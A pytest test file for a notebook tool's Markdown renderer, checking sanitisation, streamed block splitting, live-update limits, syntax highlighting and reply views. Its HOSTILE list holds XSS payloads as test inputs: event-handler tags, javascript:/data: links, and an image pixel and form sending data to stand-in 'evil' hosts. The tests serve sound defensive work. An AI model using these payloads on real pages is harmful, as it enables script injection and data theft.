"""Rendering without a kernel: safe Markdown, block freezing, bounded live updates, final view."""

from __future__ import annotations

import html as html_module
import random
import re
from html.parser import HTMLParser

import pytest

from glm_notebook.render import (
    BlockSplitter,
    LiveAnswer,
    Throttle,
    escape_text,
    markdown_html,
    reply_bundle,
    sanitize_html,
)
from glm_notebook.render.highlight import CODE_STYLES, Resumable, highlight
from glm_notebook.render.markdown import ALLOWED_TAGS
from glm_notebook.render.math import MATHML_ATTRIBUTES, MATHML_HIDDEN, MATHML_TAGS
from glm_notebook.render.reply_view import reply_html
from glm_notebook.render.styles import STYLESHEET, style_tag
from glm_notebook.results.reply import Reply
from glm_notebook.wire.events import ContentDelta, Finish, ReasoningDelta, StreamStart, Usage, UsageReport

OWN_STYLES = CODE_STYLES | {MATHML_HIDDEN}


class _Tags(HTMLParser):
    """Every start tag with its attributes, and the visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


#: Our stylesheet element (whole, or the lines an output uses): a constant of ours, not content.
OUR_STYLE = re.compile(r'<style class="glm-style">[^<]*</style>')


def without_style(html: str) -> str:
    """`html` without our `<style class="glm-style">` element(s)."""
    return OUR_STYLE.sub("", html)


def parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


HTML_ATTRIBUTES = {"href", "title", "class", "start", "open", "style", "rel", "target", "data-lang"}


def assert_inert(html: str) -> None:
    """Only allow-listed tags; no event handlers; links http(s)/mailto only, in a new tab;
    checkboxes disabled; MathML with its own short attribute list (no style, href, colours)."""
    for tag, attrs in parse(html).tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        if tag in MATHML_TAGS:
            assert set(attrs) <= MATHML_ATTRIBUTES, (tag, attrs, html)
            continue
        if tag == "input":
            assert attrs.get("type") == "checkbox" and "disabled" in attrs, html
            assert set(attrs) <= {"type", "disabled", "checked"}, html
            continue
        if tag == "a":
            assert attrs.get("target") == "_blank" and attrs.get("rel") == "noopener noreferrer"
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name in HTML_ATTRIBUTES, (name, html)
            if name == "href":
                assert re.match(r"(https?:|mailto:)", value or ""), (value, html)
            if name == "style":
                assert re.fullmatch(r"text-align:(left|right|center)", value or "") or value in OWN_STYLES, (
                    value
                )


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](javascript:alert(1))",
    '[x](https://example.com "onmouseover=alert(1)")',
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    "$<img src=x onerror=alert(1)>$",
    "$$\n</div><img src=x onerror=alert(1)>\n$$",
    "\\(<script>alert(1)</script>\\)",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | 2 |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>body{display:none}</style>",
    "<form action=https://evil><input name=q></form>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_inert(text: str) -> None:
    html = markdown_html(text)
    assert_inert(html)
    lowered = html.lower()
    for marker in ("<img", "<script", "<svg", "<iframe", "<style", "<form", "<input", "<annotation"):
        assert marker not in lowered, html


@pytest.mark.parametrize(
    "text, visible",
    [
        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ('<a href="javascript:alert(1)">click</a>', '<a href="javascript:alert(1)">click</a>'),
    ],
)
def test_hostile_markup_stays_visible_as_text(text: str, visible: str) -> None:
    assert visible in "".join(parse(markdown_html(text)).text)


def test_images_become_links_and_relative_links_text() -> None:
    html = markdown_html("![chart](https://example.com/c.png) [home](/tree) [ok](https://a.example)")
    tags = parse(html).tags
    link = {"href": "https://example.com/c.png", "target": "_blank", "rel": "noopener noreferrer"}
    assert ("a", link) in tags
    assert "[image: chart]" in html
    assert "[home](/tree)" in html
    assert '<a href="https://a.example" target="_blank" rel="noopener noreferrer">ok</a>' in html


def test_code_table_math_and_strikethrough_survive() -> None:
    html = markdown_html(
        "```python\nprint('<b>')\n```\n\n"
        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n"
        "Inline $x^2 < 3$ and ~~gone~~.\n"
        "$$\n\\int_0^1 f(x)\\,dx\n$$\n"
        "Also \\(a+b\\) and\n\\[\nE = mc^2\n\\]\n"
    )
    assert (
        '<pre class="glm-highlight" style="margin:.6em .9em"><code class="language-python"><span class="glm-tok-nb">print</span>'
        "(<span class=\"glm-tok-s1\">'&lt;b&gt;'</span>)</code></pre>"
    ) in html
    assert '<th style="text-align:right">a</th>' in html and "<td>2</td>" in html
    assert (
        '<span class="glm-math glm-math-inline"><span class="glm-mathml" style="display:none"><math display="inline">'
        "<mrow><msup><mi>x</mi><mn>2</mn></msup><mo>&lt;</mo><mn>3</mn></mrow></math></span>"
        '<code class="glm-tex glm-tex-alt">$x^2 &lt; 3$</code></span>'
    ) in html
    assert (
        html.count(
            '<div class="glm-math glm-math-display"><div class="glm-mathml" style="display:none"><math display="block">'
        )
        == 2
    )
    assert "<mo>∫</mo>" in html and "<mi>E</mi><mo>=</mo><mi>m</mi>" in html
    assert html.count('<span class="glm-math glm-math-inline">') == 2  # x^2 < 3, \\(a+b\\)
    assert "<s>gone</s>" in html
    assert html.startswith('<div class="glm-md mathjax_ignore tex2jax_ignore">')
    typeset = re.sub(
        r'<code class="glm-tex glm-tex-alt">.*?</code>', "", html
    )  # the source, for untrusted views
    assert "$" not in typeset and "\\" not in typeset  # no TeX left for anyone to typeset


def test_money_is_not_math_and_unsafe_tex_is_code() -> None:
    assert "<math" not in markdown_html("It costs $5 and $10.")
    html = markdown_html("It costs $10. Real math: $x^2$ and $ y $.")
    assert html.count("<math") == 1 and "$10" in html and "$ y $" in html
    html = markdown_html("$\\href{javascript:alert(1)}{x}$")
    assert '<code class="glm-tex">$\\href{javascript:alert(1)}{x}$</code>' in html
    assert "<math" not in html


def test_sanitizer_keeps_details_and_drops_handlers() -> None:
    html = sanitize_html(
        '<details open ontoggle="x()"><summary class="glm-x evil">S</summary><p onclick="y()">b</p></details>'
    )
    assert html == '<details open=""><summary class="glm-x">S</summary><p>b</p></details>'


def test_escape_text() -> None:
    assert escape_text("<a href='x'>&\"") == "&lt;a href=&#x27;x&#x27;&gt;&amp;&quot;"


# -- block freezing -----------------------------------------------------------------------------


def split_all(text: str, step: int = 1, **kw: int) -> list[str]:
    splitter = BlockSplitter(**kw)
    blocks: list[str] = []
    for i in range(0, len(text), step):
        blocks += splitter.feed(text[i : i + step])
    rest = splitter.close()
    return blocks + ([rest] if rest else [])


def test_list_continuations_are_not_split() -> None:
    text = "- one\n\n  continued one\n\n- two\n\n      indented code in two\n\n1. a\n\n2. b\n\nAfter.\n"
    blocks = split_all(text)
    assert blocks[0] == "- one\n\n  continued one\n\n- two\n\n      indented code in two\n\n1. a\n\n2. b\n\n"
    assert blocks[1] == "After.\n"


def test_fences_and_math_blocks_are_not_split() -> None:
    fence = "```python\nx = 1\n\ny = 2\n\nprint(x)\n```\n\n"
    math = "$$\na\n\\\\\nb\n$$\n\n"
    blocks = split_all("Intro.\n\n" + fence + math + "End.\n")
    assert blocks == ["Intro.\n\n", fence, math, "End.\n"]


@pytest.mark.parametrize("step", [1, 3, 7, 64])
def test_blocks_rejoin_to_the_text(step: int) -> None:
    text = SAMPLE * 3
    assert "".join(split_all(text, step)) == text


def test_long_code_block_is_cut_and_reopened() -> None:
    code = "".join(f"line_{i} = {i}\n" for i in range(3000))
    blocks = split_all("```python\n" + code + "```\n", step=5, max_block=2000)
    assert len(blocks) > 10
    assert all(len(block) < 2000 + 200 for block in blocks)
    html = "".join(markdown_html(block) for block in blocks)
    assert html.count('<code class="language-python">') == len(blocks)
    text = "".join(parse(html).text)
    for i in (0, 1500, 2999):
        assert f"line_{i} = {i}" in text


def test_long_table_is_cut_with_its_header() -> None:
    rows = "".join(f"| {i} | {i * i} |\n" for i in range(2000))
    blocks = split_all("| n | sq |\n|---|---|\n" + rows, step=9, max_block=3000)
    assert len(blocks) > 5
    for block in blocks:
        assert "<table>" in markdown_html(block)
        assert block.startswith("| n | sq |\n|---|---|\n")


def test_long_list_is_cut_before_an_item_not_inside_one() -> None:
    text = "".join(f"- item {i}\n  continued {i}\n" for i in range(1000))
    blocks = split_all(text, step=11, max_block=1000)
    assert len(blocks) > 10 and "".join(blocks) == text
    assert all(block.startswith("- item") for block in blocks)


def test_a_line_without_newline_is_cut() -> None:
    splitter = BlockSplitter(max_line=1000)
    blocks: list[str] = []
    for _ in range(500):
        blocks += splitter.feed("word " * 20)
    assert blocks and len(splitter.tail) <= 1100


@pytest.mark.parametrize(
    "tail, shown",
    [
        ("Text\n\n| a | b |\n|---|---|\n| 1 | 2", "Text\n\n| a | b |\n|---|---|\n"),
        ("Text\n\n| a | b |\n", "Text\n\n"),
        ("Text\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", "Text\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"),
        ("Energy is $E = mc", "Energy is "),
        ("Energy is $E = mc^2$ and", "Energy is $E = mc^2$ and"),
        ("It costs $5 or more", "It costs $5 or more"),
        ("Price $10. Then $x", "Price $10. Then "),
        ("Price $10 and $ 20", "Price $10 and $ 20"),
        ("Use `$x` in shell", "Use `$x` in shell"),
        ("Paren \\(a + b", "Paren "),
        ("Escaped \\$ sign", "Escaped \\$ sign"),
        ("Sum:\n\n$$\n\\sum_i", "Sum:\n\n"),
        ("Sum:\n\\[\n\\sum_i", "Sum:\n"),
        ("```python\ndef f(", "```python\ndef f("),
        ("Closed $$x$$ then $y", "Closed $$x$$ then "),
        # an emphasis still open would flash its asterisk, then turn italic
        ("This is *impor", "This is "),
        ("Both **bold** and __it", "Both **bold** and "),
        ("Ends with *", "Ends with "),
        ("snake_case, 2 * 3 and `a*b`", "snake_case, 2 * 3 and `a*b`"),
        ("Math $a^*$ and \\(a*b\\) stay", "Math $a^*$ and \\(a*b\\) stay"),
        ("A list:\n\n* item", "A list:\n\n* item"),
        ("Long *" + "x" * 300, "Long *" + "x" * 300),
    ],
)
def test_display_tail_holds_back_what_would_jump(tail: str, shown: str) -> None:
    splitter = BlockSplitter()
    blocks = splitter.feed(tail)
    assert "".join(blocks) + splitter.display_tail() == shown


# -- LiveAnswer ---------------------------------------------------------------------------------

SAMPLE = """## Section

Paragraph with **bold**, `code` and $x^2$.

- item one
- item two
  - nested

```python
def f(x):

    return x
```

| n | sq |
|---|---:|
| 1 | 1 |
| 2 | 4 |

> A quote.

1. step
2. step $y_1$

$$
E = mc^2
$$

"""


def long_answer(size: int, seed: int = 7) -> str:
    rng = random.Random(seed)
    pieces, total, n = [], 0, 0
    while total < size:
        n += 1
        kind = rng.randrange(4)
        if kind == 0:
            piece = SAMPLE.replace("Section", f"Section {n}")
        elif kind == 1:
            piece = f"Paragraph {n}: " + "streaming words flow " * 40 + "\n\n"
        elif kind == 2:
            piece = "```\n" + "".join(f"code {n}.{i}\n" for i in range(200)) + "```\n\n"
        else:
            piece = f"{n}. " + "list text " * 30 + "\n   continued\n\n"
        pieces.append(piece)
        total += len(piece)
    return "".join(pieces)[:size]


def stream_live(text: str, every: int = 4, seed: int = 3) -> tuple[LiveAnswer, list[int]]:
    """Feed `text` in deltas of 1-12 characters, drawing after every `every` deltas."""
    rng = random.Random(seed)
    live = LiveAnswer()
    sizes: list[int] = []
    i = count = 0
    while i < len(text):
        j = i + rng.randint(1, 12)
        live.feed_content(text[i:j])
        i, count = j, count + 1
        if count % every == 0:
            sizes += [len(update.html) for update in live.changes()]
    sizes += [len(update.html) for update in live.changes(final=True)]
    return live, sizes


def _words(html: str) -> int:
    return len(html_module.unescape(re.sub(r"<[^>]*>", " ", html)).split())


@pytest.mark.parametrize("segment_chars", [1, 600])
@pytest.mark.parametrize("source", ["huge", "long", "sample"])
def test_a_pane_never_loses_words_it_showed(source: str, segment_chars: int) -> None:
    """A pane closes after the block that filled it, and the next block's first line never
    showed in it: it starts the next pane unseen (`_early_cut`), so no redraw takes text away
    from a pane (a frame painted between two displays' updates would show it twice, or not)."""
    from glm_notebook.server.answers import huge_markdown

    text = {"huge": huge_markdown(20_000), "long": long_answer(20_000), "sample": SAMPLE * 4}[source]
    rng = random.Random(1)
    live = LiveAnswer(waiting=None, segment_chars=segment_chars, grow=segment_chars > 1)
    shown: dict[int, int] = {}
    i = 0
    while i < len(text):
        j = i + rng.randint(1, 12)
        live.feed_content(text[i:j])
        i = j
        if rng.random() < 0.3:
            for update in live.changes():
                words = _words(update.html)
                assert words >= shown.get(update.index, 0), (update.index, text[i - 60 : i])
                shown[update.index] = words
    assert len(live.panes) > 8


@pytest.mark.parametrize("step", [1, 5])
def test_blocks_do_not_depend_on_how_the_text_arrives(step: int) -> None:
    from glm_notebook.server.answers import huge_markdown

    text = huge_markdown(20_000) + long_answer(20_000) + SAMPLE
    assert split_all(text, step) == split_all(text, len(text))


def test_live_updates_are_bounded_and_total_is_linear() -> None:
    _, small = stream_live(long_answer(100_000))
    _, large = stream_live(long_answer(200_000))
    bound = 30_000  # independent of the answer's length
    assert max(small) < bound and max(large) < bound
    ratio = sum(large) / sum(small)
    assert 1.6 < ratio < 2.5, ratio


def test_live_final_panes_hold_the_whole_answer() -> None:
    text = long_answer(60_000)
    live, _ = stream_live(text)
    shown = "".join(live.panes)
    for marker in re.findall(r"Section \d+|Paragraph \d+|code \d+\.\d+", text):
        assert marker in shown
    assert len(live.panes) > 5  # several segment panes


def test_changes_report_only_what_changed() -> None:
    live = LiveAnswer(waiting="Waiting…")
    assert [u.index for u in live.changes()] == [0]
    assert live.changes() == []
    live.feed_content("Hello ")
    updates = live.changes()
    assert [u.index for u in updates] == [0, 1]
    assert updates[0].html == ""  # the waiting line goes away
    assert "Hello" in updates[1].html
    assert live.changes() == []


def test_reasoning_shows_tail_then_collapses() -> None:
    now = [100.0]
    live = LiveAnswer(reasoning_chars=300, clock=lambda: now[0])
    for i in range(200):
        live.feed_reasoning(f"thought {i} ")
    pane0 = live.changes()[0].html
    assert "<details" in pane0 and "open" in pane0 and "Thinking · 400 words" in pane0
    assert "thought 199" in pane0 and "thought 0 " not in pane0 and "…" in pane0
    now[0] = 103.25
    live.apply(ContentDelta("The answer."))
    updates = {u.index: u.html for u in live.changes()}
    assert updates[0].startswith('<details class="glm-reasoning"><summary>Reasoning · 400 words · ')
    assert '<span class="glm-time">3.2 s</span>' in updates[0]
    # collapsed, and still only its tail while streaming (more reasoning may be interleaved)
    assert "thought 199" in updates[0] and "thought 0 " not in updates[0]
    assert "The answer." in updates[1]
    final = {u.index: u.html for u in live.changes(final=True)}
    assert "thought 0 " in final[0]  # the whole reasoning once the stream ended


def test_reasoning_stays_open_until_answer_text_shows() -> None:
    """An answer that starts with a blank line or a held-back opener shows nothing yet: the
    reasoning stays open, and collapses in the same update that shows the first text (else the
    output is short for a frame: 110 → 32 → 76 px measured in JupyterLab)."""
    live = LiveAnswer()
    live.feed_reasoning("Let me think about this. ")
    live.changes()
    for piece in ["\n\n", "**Bold"]:
        live.feed_content(piece)
        assert live.changes() == [], piece  # nothing to show: nothing changes
    live.feed_content(" claim** and more.")
    updates = {u.index: u.html for u in live.changes()}
    assert "open" not in updates[0].split(">", 1)[0] and "Reasoning · " in updates[0]
    assert "<strong>Bold claim</strong>" in updates[1]


@pytest.mark.parametrize("marker", ["# ", "## ", "- ", "* ", "1. ", "> ", "  - "])
def test_a_line_that_is_only_a_marker_is_held_back(marker: str) -> None:
    """`# ` alone would render as an empty heading (the demo printed a bare `#`), `- ` as an
    empty bullet: the marker waits for its first character."""
    live = LiveAnswer(waiting=None)
    live.feed_content("Intro.\n\n" + marker)
    shown = live.changes()[-1].html
    assert "Intro." in shown and "<h" not in shown and "<li" not in shown and "<blockquote" not in shown
    live.feed_content("Word")
    assert "Word" in live.changes()[-1].html


def test_json_language_renders_code() -> None:
    live = LiveAnswer(language="json")
    live.feed_content('{"a": "<b>"}')
    html = live.changes(final=True)[-1].html
    assert html == (
        '<div class="glm-md mathjax_ignore tex2jax_ignore">'
        '<pre><code class="language-json">{&quot;a&quot;: &quot;&lt;b&gt;&quot;}</code></pre></div>'
    )


def test_sync_reads_a_reply() -> None:
    reply = Reply()
    live = LiveAnswer()
    for piece in ["# Ti", "tle\n\nBody ", "text"]:
        reply.apply(ContentDelta(piece))
        live.sync(reply)
    html = "".join(u.html for u in live.changes(final=True))
    assert "<h1>Title</h1>" in html and "Body text" in html


def test_throttle_caps_draws() -> None:
    now = [0.0]
    throttle = Throttle(20, clock=lambda: now[0])
    draws = 0
    for _ in range(2000):  # 2000 deltas over 2 seconds
        draws += throttle.ready()
        now[0] += 0.001
    assert draws <= 41
    assert Throttle(None).ready() and Throttle(None).ready()
    zero = Throttle(0, clock=lambda: now[0])
    assert zero.ready() and not zero.ready()


# -- the final view -----------------------------------------------------------------------------


def make_reply(text: str, *, reasoning: str = "Let me think.", finish: str = "stop") -> Reply:
    reply = Reply(
        model="glm-4.6", request={"model": "glm-4.6", "temperature": 0.2, "thinking": {"type": "enabled"}}
    )
    reply.apply(StreamStart("chatcmpl-1", "glm-4.6", 1700000000))
    if reasoning:
        reply.apply(ReasoningDelta(reasoning))
    reply.apply(ContentDelta(text))
    reply.apply(Finish(finish))
    reply.apply(UsageReport(Usage(12, 340, 352, cached_tokens=4, reasoning_tokens=20)))
    reply.finish()
    return reply


def test_reply_bundle() -> None:
    data, metadata = reply_bundle(make_reply("# Hi\n\n<img src=x onerror=alert(1)>", finish="length"))
    assert data["text/plain"] == "<Reply glm-4.6: 34 chars, cut short by max_tokens>"
    html = data["text/html"]
    assert OUR_STYLE.match(html) and html.count("<style") == 1  # our constant stylesheet
    html = without_style(html)  # then the sanitised reply
    assert_inert(html)
    assert '<details class="glm-reasoning"><summary>Reasoning · 3 words · ' in html
    assert "<h1>Hi</h1>" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<strong>⚠ cut short by max_tokens</strong>" in html
    # a quiet row: model · tokens · time, the breakdowns one hover away
    assert (
        '<span title="12 prompt + 340 completion (4 cached, 20 reasoning) tokens">352 tokens</span>' in html
    )
    assert re.search(
        r'<span class="glm-time" title="first token [\d.]+ s · [\d,]+ tok/s">[\d.]+ s</span>', html
    )
    info = metadata["glm_notebook"]
    assert info["model"] == "glm-4.6" and info["id"] == "chatcmpl-1"
    assert info["params"] == {"temperature": 0.2, "thinking": {"type": "enabled"}}
    assert info["usage"]["completion_tokens"] == 340 and info["finish_reason"] == "length"


def test_reply_bundle_never_carries_a_key() -> None:
    reply = make_reply("x")
    reply.request["api_key"] = "sk-secret"
    reply.request["Authorization"] = "Bearer sk-secret"
    assert "sk-secret" not in repr(reply_bundle(reply))


def test_interrupted_and_empty_replies_say_so() -> None:
    reply = Reply(model="glm-4.6")
    reply.apply(ContentDelta("Partial"))
    reply.finish(stopped="interrupted")
    html = reply_bundle(reply)[0]["text/html"]
    assert "<strong>⚠ interrupted</strong>" in html and "Partial" in html
    assert "7 characters received" in html
    empty = make_reply("", reasoning="Only thoughts.")
    assert "(no answer text)" in reply_bundle(empty)[0]["text/html"]


def test_json_reply_is_code() -> None:
    reply = make_reply('{"a": 1}')
    reply.request["response_format"] = {"type": "json_object"}
    assert '<pre><code class="language-json">{"a": 1}</code></pre>' in reply_bundle(reply)[0]["text/html"]


# -- code blocks, links, task lists, the stylesheet -----------------------------------------------

FENCES = {
    "python": ("def f(x):\n    return 'a'  # c\n", {"glm-tok-k", "glm-tok-nf", "glm-tok-s1", "glm-tok-c1"}),
    "js": ("const x = [1].map((y) => y * 2); // c\n", {"glm-tok-kd", "glm-tok-mf", "glm-tok-c1"}),
    "bash": ('for f in *.txt; do echo "$f"; done\n', {"glm-tok-k", "glm-tok-nb", "glm-tok-s2"}),
    "sql": ("SELECT a, COUNT(*) FROM t WHERE b > 3;\n", {"glm-tok-k", "glm-tok-o", "glm-tok-mi"}),
}


def test_fenced_blocks_are_separate_highlighted_code_blocks() -> None:
    text = "\n".join(f"```{lang}\n{code}```\n" for lang, (code, _) in FENCES.items())
    html = markdown_html(text)
    assert html.count('<div class="glm-code"') == 4
    blocks = html.split('<div class="glm-code" ')[1:]
    for block, (lang, (code, expected)) in zip(blocks, FENCES.items(), strict=True):
        assert block.startswith(
            f'data-lang="{lang}" style="border:1px solid #8886;border-radius:6px">'
            f'<div class="glm-code-head" style="padding:0 .8em;font-size:.75em;color:#888"><span class="glm-code-lang">{lang}</span>'
            f'</div><pre class="glm-highlight" style="margin:.6em .9em"><code class="language-{lang}">'
        ), block
        classes = set(re.findall(r'<span class="(glm-tok-[a-z0-9]+)">', block))
        assert expected <= classes, (lang, classes)
        body = block.split('<code class="language-', 1)[1].split("</code>", 1)[0]
        assert html_module.unescape(re.sub(r"<[^>]+>", "", body.split(">", 1)[1])) == code.rstrip("\n")
    assert set(re.findall(r'style="([^"]*)"', html)) == CODE_STYLES  # no other inline style


GROWING = {
    "python": "class A:\n    \"\"\"Doc\n\n    end\"\"\"\n    s = '''multi\nline'''\n    def f(self, a,\n          b):\n"
    '        return f"{a}\\n{b}"  # c\n\nprint(A().f(1,\n  2))\n',
    "c": '/* block\n   comment */\nint main(void) {\n  char *s = "a\\\n b";  // c\n  return 0;\n}\n',
    "javascript": "const x = `template\nline ${a}\n`;\nfunction f(a) {\n  return a + 1; // c\n}\n",
    "sql": "SELECT a,\n  b -- c\nFROM t /* x\n y */\nWHERE s = 'multi\nline';\n",
}


@pytest.mark.parametrize("language", GROWING)
def test_a_growing_code_block_resumed_matches_a_whole_highlight_at_every_length(language: str) -> None:
    # The live view's open code block: only the lines after the last top-level break are lexed
    # again, and every intermediate result is what lexing the whole prefix gives.
    code, resume = GROWING[language] * 3, Resumable()
    for end in range(1, len(code) + 1):
        assert highlight(code[:end], language, resume) == highlight(code[:end], language), code[:end]
    assert len(resume._code) > len(code) // 2  # it did resume


def test_a_resumable_starts_over_for_other_code() -> None:
    resume = Resumable()
    highlight("x = 1\ny = 2\nz = 3\n", "python", resume)
    assert highlight("a = 'b'\nc\n", "python", resume) == highlight("a = 'b'\nc\n", "python")
    assert highlight("a = 'b'\nc\n", "ruby", resume) == highlight("a = 'b'\nc\n", "ruby")


@pytest.mark.parametrize("info", ["", "mermaid", "no such lang", '"><img src=x>', "../../etc"])
def test_unknown_language_is_plain_text_labelled_text(info: str) -> None:
    html = markdown_html(f"```{info}\nx <b> = 1\n```")
    assert '<div class="glm-code" data-lang="text" style="border:1px solid #8886;border-radius:6px">' in html
    assert '<span class="glm-code-lang">text</span>' in html
    assert '<code class="language-text">x &lt;b&gt; = 1</code>' in html
    assert_inert(html)


def test_language_is_never_guessed_and_indented_code_is_text() -> None:
    html = markdown_html("```\ndef f(): pass\n```\n\n    import os\n")
    assert html.count('data-lang="text"') == 2 and "glm-tok-" not in html


def test_unclosed_fence_renders_as_a_code_block() -> None:
    html = markdown_html("Intro\n\n```python\ndef f(")
    assert (
        '<div class="glm-code" data-lang="python" style="border:1px solid #8886;border-radius:6px">' in html
        and "glm-tok-k" in html
    )


def test_long_lines_stay_one_line() -> None:
    line = "x = " + " + ".join(f"v{i}" for i in range(200))
    html = markdown_html(f"```python\n{line}\n```")
    body = html.split('<code class="language-python">', 1)[1].split("</code>", 1)[0]
    assert "\n" not in body and "<br" not in body


def test_links_open_in_a_new_tab_everywhere() -> None:
    html = markdown_html("[a](https://a.example) <https://b.example> ![c](http://c.example/i.png)")
    links = [attrs for tag, attrs in parse(html).tags if tag == "a"]
    assert len(links) == 3
    for attrs in links:
        assert attrs["target"] == "_blank" and attrs["rel"] == "noopener noreferrer"
    assert sanitize_html('<a href="https://x" target="_top" rel="opener">x</a>') == (
        '<a href="https://x" target="_blank" rel="noopener noreferrer">x</a>'
    )


def test_task_lists_are_disabled_checkboxes() -> None:
    html = markdown_html("- [ ] open\n- [x] done\n- [X] also done\n- plain\n")
    assert html.count('<li class="glm-task">') == 3 and "<li>plain</li>" in html
    boxes = [attrs for tag, attrs in parse(html).tags if tag == "input"]
    assert boxes == [
        {"type": "checkbox", "disabled": "disabled"},
        {"checked": "checked", "type": "checkbox", "disabled": "disabled"},
        {"checked": "checked", "type": "checkbox", "disabled": "disabled"},
    ]
    assert '<ul class="glm-tasks">' in html
    # the sanitiser forces any input into a disabled checkbox with no name, value or handler
    forced = parse(sanitize_html('<input type="text" name="q" value="x" checked onclick="y()">')).tags
    assert forced == [("input", {"checked": "", "type": "checkbox", "disabled": "disabled"})]


def test_nothing_we_emit_has_inline_style_beyond_cell_alignment_and_our_constants() -> None:
    html = markdown_html(SAMPLE + "\n```js\nlet a = `t${x}`;\n```\n\n- [x] t\n\n$$\\frac{a}{b}$$\n")
    styles = re.findall(r'style="([^"]*)"', html)
    assert styles and all(
        re.fullmatch(r"text-align:(left|right|center)", s) or s in OWN_STYLES for s in styles
    )
    assert set(OWN_STYLES) <= set(styles)  # each constant is used
    assert_inert(html)


def test_stylesheet_is_scoped_themed_and_small() -> None:
    css = STYLESHEET
    assert 1_000 < len(css.encode()) < 10_000
    body = re.sub(r"/\*.*?\*/", "", css, flags=re.S)
    assert "@import" not in body and "url(" not in body and "expression(" not in body
    rules = re.findall(r"([^{}]+)\{([^{}]*)\}", body)
    assert len(rules) > 30
    for selectors, declarations in rules:
        for selector in selectors.split(","):
            assert "glm-" in selector, selector  # every rule names one of our classes
        for colour in re.findall(r"(?:color|background)\s*:\s*([^;]+)", declarations):
            if colour.strip() not in ("transparent", "none", "inherit"):
                assert colour.strip().startswith("var(--jp-"), (selectors, colour)
    for name in ("keyword", "string", "number", "comment", "def", "builtin", "operator", "meta"):
        assert f"--jp-mirror-editor-{name}-color" in css
    for needle in (
        "overflow-x:auto",
        "white-space:pre",
        "--jp-content-link-color",
        "--jp-cell-editor-background",
    ):
        assert needle in css
    assert style_tag().startswith('<style class="glm-style">') and style_tag().endswith("</style>")


def test_an_output_carries_only_the_style_lines_it_uses() -> None:
    """A saved answer's stylesheet holds the lines for the classes in it: a short prose answer
    no code-token, tool, map or history rules; an answer with code its token colours."""
    plain = reply_html(make_reply("Just a sentence."))
    style = OUR_STYLE.match(plain).group(0)
    assert len(style) < len(style_tag()) / 2, len(style)
    for absent in ("glm-tok-", "glm-tool", "glm-map", "glm-history", "glm-sources"):
        assert absent not in style, absent
    assert ".glm-md p{" in style and ".glm-footer{" in style and "details.glm-reasoning{" in style
    code = OUR_STYLE.match(reply_html(make_reply("```python\ndef f():\n    return 'x'\n```"))).group(0)
    assert '[class^="glm-tok-k"]' in code and ".glm-copy{" in code and '[class^="glm-tok-s"]' in code
    assert style_tag("") != style_tag() == f'<style class="glm-style">{STYLESHEET.strip()}</style>'


def test_the_byte_budget_holds_redraws_back_but_not_for_long() -> None:
    from glm_notebook.render.live import ByteBudget

    now = [0.0]
    budget = ByteBudget(per_char=2.0, allowance=100, max_wait=0.5, clock=lambda: now[0])
    assert budget.allows(0)  # a first draw always goes out
    budget.spend(1_000)
    assert not budget.allows(100)  # 1,000 bytes for 100 characters: over 100 + 2 × 100
    assert budget.allows(450)  # enough text arrived to pay for it
    now[0] = 0.6
    assert budget.allows(100)  # or held long enough


@pytest.mark.parametrize("arriving", ["`", "``", "```", "```pyth", "  ~~~", "~"])
def test_a_fence_whose_opening_line_is_arriving_never_shows_its_backticks(arriving) -> None:
    from glm_notebook.render.live import BlockSplitter

    splitter = BlockSplitter()
    finished = splitter.feed(f"Here is the code:\n\n{arriving}")
    assert "".join(finished) + splitter.display_tail() == "Here is the code:\n\n"
    splitter = BlockSplitter()
    splitter.feed("`x` is small")  # inline code at a line's start shows as it comes
    assert splitter.display_tail() == "`x` is small"
